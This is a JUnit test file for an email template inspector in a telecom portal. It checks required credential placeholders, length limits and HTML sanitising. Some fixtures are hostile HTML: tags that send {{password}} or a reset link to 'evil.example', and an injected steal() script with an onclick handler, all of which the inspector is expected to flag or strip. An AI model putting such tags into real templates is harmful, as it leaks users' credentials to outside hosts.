package org.ngnportal.templates.internal;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.ngnportal.branding.Brand;
import org.ngnportal.branding.BrandTemplates;
import org.ngnportal.branding.TemplateText;
import org.ngnportal.templates.MailEvent;
import org.ngnportal.templates.TemplateCheck;
import org.ngnportal.templates.TemplateProblem;
import org.ngnportal.templates.TemplateProblem.Part;
import org.springframework.boot.WebApplicationType;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.context.annotation.ComponentScan;
import org.springframework.context.annotation.Configuration;

/** What may be kept. Texts that begin an own template come from the brand and are always fine. */
class TemplateInspectorTest {

    @Configuration(proxyBeanMethods = false)
    @ComponentScan("org.ngnportal.branding.internal")
    static class Branding {}

    private static final Brand BRAND =
            new Brand("test", "Portal", "Alpha Telecom", "help@alpha.example", null, "#123456", "brand/logo.svg");
    private static final MailEvent WELCOME = MailEvent.named(MailEvent.WELCOME).orElseThrow();
    private static final MailEvent RESET = MailEvent.named("password-reset").orElseThrow();
    private static final ConfigurableApplicationContext CONTEXT = new SpringApplicationBuilder(Branding.class)
            .web(WebApplicationType.NONE)
            .run();

    private static final String CREDENTIALS = "{{address}} {{password}} {{webPassword}} {{voicemailPin}}";

    @AfterAll
    static void close() {
        CONTEXT.close();
    }

    private static TemplateCheck check(MailEvent event, String subject, String html, String text) {
        return TemplateInspector.check(event, Locale.ENGLISH, new TemplateText(subject, html, text), BRAND);
    }

    private static List<String> keys(TemplateCheck check, Part part) {
        return check.problems().stream()
                .filter(problem -> problem.part() == part)
                .map(TemplateProblem::key)
                .toList();
    }

    static Stream<Arguments> standards() {
        return MailEvent.all().stream()
                .flatMap(event -> MailEvent.LANGUAGES.stream().map(language -> Arguments.of(event, language)));
    }

    @ParameterizedTest
    @MethodSource("standards")
    void everyStandardCanBeKept(MailEvent event, String language) {
        var locale = Locale.forLanguageTag(language);
        var brands = CONTEXT.getBean(BrandTemplates.class);
        assertThat(brands.speaks(event.name(), locale)).isTrue();
        var check = TemplateInspector.check(event, locale, Standards.text(brands, event, language), BRAND);

        assertThat(check.problems()).extracting(TemplateProblem::words).isEmpty();
        assertThat(check.leftOut()).isEmpty();
        assertThat(check.sample()).satisfies(mail -> {
            assertThat(mail.html() + mail.text() + mail.subject()).doesNotContain("{{", "}}", "null", "templates.");
            assertThat(mail.html()).contains("#123456", "Alpha Telecom");
        });
    }

    @Test
    void everyVariableHasItsWords() {
        assertThat(MailEvent.all().stream().flatMap(event -> event.variables().stream()))
                .allSatisfy(variable ->
                        assertThat(variable.meaning() + variable.sample()).doesNotContain("templates."));
        assertThat(MailEvent.all())
                .allSatisfy(event -> assertThat(event.words() + event.when()).doesNotContain("templates."));
    }

    @Test
    void welcomeMailWithoutCredentialsIsRefused() {
        var check = check(WELCOME, "Hi", "<p>Welcome {{address}}</p>", CREDENTIALS);

        assertThat(check.problems())
                .extracting(TemplateProblem::words)
                .anySatisfy(words -> assertThat(words).contains("password", "of no use"));
        assertThat(keys(check, Part.HTML)).containsOnly("missing").hasSize(3);
        assertThat(keys(check, Part.TEXT)).isEmpty();
    }

    @Test
    void credentialsThatDependOnSomethingElseAreRefused() {
        var html = "<p>{{address}} {{#voicemail}}{{voicemailPin}}{{/voicemail}} {{webPassword}}"
                + " {{#callRecords}}{{password}}{{/callRecords}}</p>";
        var check = check(WELCOME, "Hi", html, CREDENTIALS);

        assertThat(check.problems())
                .extracting(TemplateProblem::part, TemplateProblem::key, TemplateProblem::arguments)
                .containsExactly(org.assertj.core.groups.Tuple.tuple(
                        Part.HTML, "missing-sometimes", List.<Object>of("password")));
    }

    @Test
    void credentialsInCommentsAndAttributesDoNotCount() {
        var check = check(WELCOME, "Hi", "<!-- " + CREDENTIALS + " --><p title='{{password}}'>x</p>", CREDENTIALS);

        assertThat(keys(check, Part.HTML)).contains("missing", "secret-in-address");
    }

    @Test
    void linkMustBeThere() {
        assertThat(keys(check(RESET, "Hi", "<p>Hello</p>", "{{link}}"), Part.HTML))
                .containsExactly("missing");
        assertThat(check(RESET, "Hi", "<p><a href=\"{{link}}\">Go</a></p>", "{{link}}")
                        .isFine())
                .isTrue();
        assertThat(check(RESET, "Hi", "<p>{{link}}</p>", "{{link}}").isFine()).isTrue();
    }

    @Test
    void secretsStayOutOfSubjectsAndAddresses() {
        assertThat(keys(check(RESET, "{{link}}", "<p>{{link}}</p>", "{{link}}"), Part.SUBJECT))
                .containsExactly("secret-in-subject");
        var tracked = "<p>" + CREDENTIALS + "<img src=\"https://evil.example/?{{password}}\"></p>";
        assertThat(keys(check(WELCOME, "Hi", tracked, CREDENTIALS), Part.HTML)).containsExactly("secret-in-address");
        var detour = "<p>{{link}} <a href=\"https://evil.example/?to={{link}}\">Go</a></p>";
        assertThat(keys(check(RESET, "Hi", detour, "{{link}}"), Part.HTML)).containsExactly("secret-in-address");
    }

    @Test
    void emptyAndEndlessPartsAreRefused() {
        assertThat(keys(check(RESET, " ", "", "{{link}}"), Part.SUBJECT)).containsExactly("empty");
        assertThat(keys(check(RESET, "Hi", "x".repeat(100_001), "{{link}}"), Part.HTML))
                .containsExactly("too-long");
        assertThat(keys(check(RESET, "{{! nothing }}", "{{link}}", "{{link}}"), Part.SUBJECT))
                .containsExactly("no-subject");
    }

    @Test
    void whatMailsMustNotHaveIsLeftOutAndTold() {
        var check =
                check(RESET, "Hi", "<p onclick=\"x\">{{link}}</p><script>steal('{{account}}')</script>", "{{link}}");

        assertThat(check.isFine()).isTrue();
        assertThat(check.leftOut()).containsExactly("onclick (<p>)", "<script>");
        assertThat(check.sample()).satisfies(mail -> assertThat(mail.html()).doesNotContain("steal", "onclick"));
    }

    @Test
    void longestTemplateIsCheckedInTime() {
        var html = "<table>" + "<tr><td style=\"padding:4px\">{{name}}</td></tr>".repeat(1_900) + "</table>{{link}}";
        org.junit.jupiter.api.Assertions.assertTimeout(
                Duration.ofSeconds(20),
                () -> assertThat(check(RESET, "Hi", html, "{{link}}").sample()).isNotNull());
    }
}
